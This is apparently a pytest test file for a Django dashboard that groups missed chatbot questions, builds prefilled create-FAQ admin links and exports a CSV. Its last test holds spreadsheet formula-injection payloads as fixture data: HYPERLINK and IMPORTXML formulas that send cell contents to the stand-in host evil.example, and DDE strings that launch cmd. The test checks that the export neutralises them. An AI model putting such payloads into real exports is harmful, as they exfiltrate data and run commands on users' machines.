"""FAQ gaps: which questions count as misses, how they are grouped, and the one-click
"create FAQ" flow through the admin's prefilled add form."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from html import unescape

import numpy as np
import pytest
from django.contrib.auth.models import User
from django.test import Client

from chatplatform.dashboards.gaps import Miss, group_misses, recent_misses
from chatplatform.dashboards.queries import Scope
from chatplatform.faq.models import FAQ
from tests.dashboards.conftest import DAY2, RANGE, KnownData
from tests.dashboards.factories import answer, question

# Hand-made unit vectors: the two "pay" phrasings point the same way, "ship" elsewhere.
VECTORS = {
    "pay with voucher?": [1.0, 0.0, 0.0],
    "voucher payment ok?": [0.96, 0.28, 0.0],
    "ship to Norway?": [0.0, 0.0, 1.0],
}


def fake_encode(texts: list[str]) -> np.ndarray:
    return np.array([VECTORS[t] for t in texts], dtype=np.float32)


def test_grouping_counts_repeats_and_prefers_a_rated_up_answer() -> None:
    # given
    misses = [
        Miss(1, "pay with voucher?", "answer A", rated_up=False),
        Miss(1, "voucher payment ok?", "answer B", rated_up=True),
        Miss(1, "voucher payment ok?", "answer C", rated_up=False),
        Miss(1, "ship to Norway?", "", rated_up=False),  # only a holding reply was sent
    ]
    # when
    gaps = group_misses(misses, fake_encode)
    # then
    assert [(g.count, g.question, g.phrasings, g.answer) for g in gaps] == [
        (3, "pay with voucher?", ["voucher payment ok?"], "answer B"),
        (1, "ship to Norway?", [], ""),
    ]


def test_groups_never_mix_sites() -> None:
    misses = [Miss(1, "pay with voucher?", "a", False), Miss(2, "voucher payment ok?", "b", False)]
    gaps = group_misses(misses, fake_encode)
    assert sorted((g.site_id, g.count) for g in gaps) == [(1, 1), (2, 1)]


def test_create_faq_url_carries_question_answer_site_and_phrasings() -> None:
    gap = group_misses([Miss(7, "pay with voucher?", "Yes & no", False)], fake_encode)[0]
    gap.phrasings = ["voucher payment ok?"]
    assert gap.create_faq_url() == (
        "/admin/faq/faq/add/?site=7&question=pay+with+voucher%3F&answer=Yes+%26+no"
        "&variant=voucher+payment+ok%3F"
    )


def test_misses_are_model_or_holding_reply_answers_once_per_question(
    known_data: KnownData,
) -> None:
    scope = Scope(
        [known_data.shop.pk], datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 4, tzinfo=UTC)
    )
    misses = recent_misses(scope)
    assert sorted(misses, key=lambda m: m.question) == [
        Miss(
            known_data.shop.pk, "Can I pay with a voucher?", "Yes, vouchers work at checkout.", True
        ),
        Miss(known_data.shop.pk, "Do you ship to Norway?", "We ship to Norway in 5 days.", False),
    ]
    assert len(recent_misses(scope, limit=1)) == 1


@pytest.mark.slow
def test_create_faq_from_a_gap_end_to_end(
    client: Client, superuser: User, known_data: KnownData
) -> None:
    # given: paraphrases of two missed questions (real encoder)
    conv = known_data.shop.conversations.first()
    for text in ["Do you accept vouchers as payment?", "Is paying with a gift voucher possible?"]:
        answer(question(conv, text, DAY2), "llm", ttft_ms=100, total_ms=900, sla_met=True)
    q = question(conv, "Can you deliver my order to Norway?", DAY2)
    answer(q, "fallback", ttft_ms=250, total_ms=250, sla_met=True, text="One moment...")
    client.force_login(superuser)

    # when: the gaps page groups them
    page = client.get("/dashboard/gaps/", {**RANGE, "site": known_data.shop.pk})
    html = page.content.decode()

    # then: the voucher group (3 misses) comes first, with its create-FAQ link
    assert page.status_code == 200
    counts = [int(n) for n in re.findall(r'<td data-sort="(\d+)">\d+</td>', html)]
    assert counts == [3, 2]
    link = unescape(re.search(r'class="create-faq" href="([^"]+)"', html).group(1))
    exported = client.get("/dashboard/gaps.csv", {**RANGE, "site": known_data.shop.pk})
    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    assert rows[0] == ["site", "missed questions", "question", "other phrasings", "model answer"]
    assert [(row[0], row[1]) for row in rows[1:]] == [("Shop", "3"), ("Shop", "2")]

    # when: the admin follows the link
    form = client.get(link).content.decode()
    # then: the add form is prefilled with question, site, answer and the other phrasings
    assert 'value="Can I pay with a voucher?"' in form or 'value="Do you accept' in form
    assert f'<option value="{known_data.shop.pk}" selected>' in form
    assert "Yes, vouchers work at checkout." in form  # the answer a customer rated up
    variant_inputs = re.findall(r'name="variants-(\d+)-text"[^>]*value="([^"]*)"', form)
    assert len(variant_inputs) == 2

    # when: the admin saves the prefilled form unchanged
    question_value = re.search(r'name="question" value="([^"]*)"', form).group(1)
    response = client.post(
        link,
        {
            "site": known_data.shop.pk,
            "question": unescape(question_value),
            "answer": "Yes, vouchers work at checkout.",
            "is_active": "on",
            "variants-TOTAL_FORMS": "2",
            "variants-INITIAL_FORMS": "0",
            "variants-MIN_NUM_FORMS": "0",
            "variants-MAX_NUM_FORMS": "1000",
            **{f"variants-{i}-text": unescape(text) for i, text in variant_inputs},
        },
    )
    # then: the FAQ exists with all three phrasings
    assert response.status_code == 302
    faq = FAQ.objects.get(site=known_data.shop)
    assert len(faq.phrasings()) == 3
    assert all("voucher" in text.lower() for text in faq.phrasings())


def test_gaps_csv_never_exports_customer_text_as_a_spreadsheet_formula(
    client: Client, superuser: User, known_data: KnownData
) -> None:
    # given: missed questions and a model answer that a spreadsheet would run as formulas
    conv = known_data.shop.conversations.first()
    attacks = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 where is my parcel",
        "\r=1+1 what about my voucher",
    ]
    for text in attacks:
        answer(question(conv, text, DAY2), "llm", ttft_ms=100, total_ms=900, sla_met=True,
               text="=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")")  # fmt: skip
    client.force_login(superuser)
    # when
    exported = client.get("/dashboard/gaps.csv", {**RANGE, "site": known_data.shop.pk})
    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    # then: no text cell starts a formula; the texts are kept whole behind a quote; counts
    # stay numbers
    assert exported.status_code == 200
    quoted_attacks = {f"'{text}" for text in attacks}
    for row in rows[1:]:
        assert row[1].isdigit()
        for cell in (row[0], row[2], row[3], row[4]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    attack_questions = [row[2] for row in rows[1:] if row[2].startswith("'")]
    assert attack_questions and set(attack_questions) <= quoted_attacks
    assert any(row[4].startswith("'=IMPORTXML(") for row in rows[1:])
